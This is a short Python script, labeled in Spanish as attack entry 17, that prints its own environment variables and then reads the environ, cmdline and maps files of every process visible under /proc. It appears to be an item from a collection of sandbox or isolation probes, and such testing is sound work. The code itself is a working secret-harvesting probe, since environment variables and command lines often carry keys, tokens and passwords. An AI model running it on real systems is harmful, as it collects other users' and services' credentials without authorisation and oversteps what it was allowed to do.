# attack: lee su entorno y el de todo proceso que vea
# entry: 17

import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
    try:
        print(path, open(path, errors="replace").read(3000))
    except OSError as error:
        print(path, error)
